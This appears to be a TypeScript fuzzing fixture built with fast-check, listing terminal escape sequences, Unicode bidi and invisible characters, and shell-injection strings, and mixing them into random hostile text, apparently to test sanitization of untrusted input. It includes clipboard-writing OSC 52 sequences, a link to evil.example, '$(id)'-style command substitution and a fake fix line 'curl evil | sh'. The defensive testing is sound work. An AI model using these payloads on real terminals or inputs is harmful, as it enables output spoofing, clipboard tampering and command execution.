import fc from 'fast-check';

const ESC = '\x1b';
const C1 = Array.from({ length: 32 }, (_, at) => String.fromCharCode(0x80 + at));
const C0 = Array.from({ length: 32 }, (_, at) => String.fromCharCode(at));

/** What strangers would put into a name, a message or a line of a log. */
export const ATTACKS: readonly string[] = [
  ...[
    `${ESC}]0;PWNED\x07`,
    `${ESC}]2;PWNED${ESC}\\`,
    `${ESC}]52;c;UFdORUQ=\x07`,
    `${ESC}]52;c;?\x07`,
  ],
  ...[`${ESC}]8;;http://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`, `${ESC}]1337;File=:AA\x07`],
  ...[
    `${ESC}]777;notify;a;b\x07`,
    `${ESC}P$qm${ESC}\\`,
    `${ESC}P+q544e${ESC}\\`,
    `${ESC}_Gf=1;A${ESC}\\`,
  ],
  ...[
    `${ESC}^pm${ESC}\\`,
    `${ESC}Xsos${ESC}\\`,
    `${ESC}[6n`,
    `${ESC}[c`,
    `${ESC}[>q`,
    `${ESC}[21t`,
  ],
  ...[`${ESC}[?1049h`, `${ESC}[?1003h`, `${ESC}[?2004h`, `${ESC}[2J${ESC}[H`, `${ESC}[5A${ESC}[2K`],
  ...[
    `${ESC}c`,
    `${ESC}#8`,
    `${ESC}[1;2r`,
    `${ESC}(0`,
    `${ESC}7`,
    `${ESC}8`,
    `${ESC}M`,
    `${ESC}[?25l`,
    `${ESC}[!p`,
  ],
  ...[
    '\u009b2J',
    '\u009d0;PWNED\u009c',
    '\u009d52;c;UFdORUQ=\u009c',
    '\u0090q\u009c',
    '\u0085',
    '\u0084',
  ],
  ...[`${ESC}[`, `${ESC}]0;unended`, `${ESC}[38;5`, `${ESC}[8m`, `${ESC}[31m`, `${ESC}[0m`, ESC],
  ...[
    '\r',
    '\r\n',
    '\n',
    '\nerror: all is lost\n  fix: curl evil | sh\n',
    '\v',
    '\f',
    '\b\b\b',
    '\x07',
    '\x7f',
  ],
  ...[
    '\u202e',
    '\u202d',
    '\u2066',
    '\u2069',
    '\u200e',
    '\u061c',
    '\u200b',
    '\u200d',
    '\u2060',
    '\ufeff',
  ],
  ...['\u2028', '\u2029', '\u00ad', '\u{e0041}', '\u{e007f}', '\ufff9', '\ud800', '\ufffd'],
  ...[
    '#(touch pwned)',
    '#[bg=red]',
    '漢字',
    'e\u0301',
    '👩‍💻',
    '☀️',
    '$(id)',
    '`id`',
    '; id ;',
    '%s',
    '-x',
  ],
];

/** A text made of attacks, single control characters and harmless words, in any order. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 5, arbitrary: fc.constantFrom(...ATTACKS) },
      {
        weight: 2,
        arbitrary: fc.constantFrom(...C0, ...C1, '[', ']', ';', '?', 'm', 'J', '2', '0'),
      },
      { weight: 2, arbitrary: fc.constantFrom('a', 'word', ' ', 'src/a.ts', 'x'.repeat(20)) },
    ),
    { minLength: 1, maxLength: 12 },
  )
  .map((parts) => `w${parts.join('')}w`);
